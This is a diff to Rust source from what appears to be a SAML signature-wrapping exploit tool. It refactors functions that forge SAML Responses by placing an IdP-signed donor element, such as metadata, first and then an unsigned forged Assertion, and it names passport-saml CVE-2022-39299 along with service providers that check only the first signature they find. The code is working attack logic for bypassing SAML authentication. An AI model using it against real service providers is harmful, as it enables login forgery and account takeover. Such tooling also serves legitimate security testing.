@@ -211,17 +211,7 @@ pub fn embeddable(xml: &str) -> &str {
 /// A donor (IdP-signed metadata) as the first root; a second root holding the forged
 /// Assertion (passport-saml CVE-2022-39299: any IdP-signed element is enough).
 pub fn roots_donor_first(f: &Forge) -> Result<Forged, Skip> {
-    roots_first(f, f.metadata()?)
-}
-
-/// As [`roots_donor_first`], the donor a LogoutResponse the IdP signed.
-pub fn roots_logout_response_first(f: &Forge) -> Result<Forged, Skip> {
-    roots_first(f, f.logout_response()?)
-}
-
-/// `donor` as the first root, then a Response holding the forged Assertion.
-fn roots_first(f: &Forge, donor: &str) -> Result<Forged, Skip> {
-    let donor = embeddable(donor);
+    let donor = embeddable(f.metadata()?);
     let doc = parse(f)?;
     let p = Parts::of(&doc)?;
     let (evil, swap) = p.forged_assertion(None)?;
@@ -235,17 +225,7 @@ fn roots_first(f: &Forge, donor: &str) -> Result<Forged, Skip> {
 /// A donor's valid Signature first in document order (inside `samlp:Extensions`), the
 /// Assertion forged and unsigned: for SPs that verify "the first Signature they find".
 pub fn donor_signature_first(f: &Forge) -> Result<Forged, Skip> {
-    signature_first(f, f.metadata()?)
-}
-
-/// As [`donor_signature_first`], the donor a LogoutResponse the IdP signed.
-pub fn logout_response_signature_first(f: &Forge) -> Result<Forged, Skip> {
-    signature_first(f, f.logout_response()?)
-}
-
-/// `donor` (with its valid Signature) in `samlp:Extensions`; the Assertion forged, unsigned.
-fn signature_first(f: &Forge, donor: &str) -> Result<Forged, Skip> {
-    let donor = embeddable(donor);
+    let donor = embeddable(f.metadata()?);
     let doc = parse(f)?;
     let (whole, swap) = crate::family::forge_document(&doc);
     let unsigned = crate::family::strip_signatures(&whole)?;
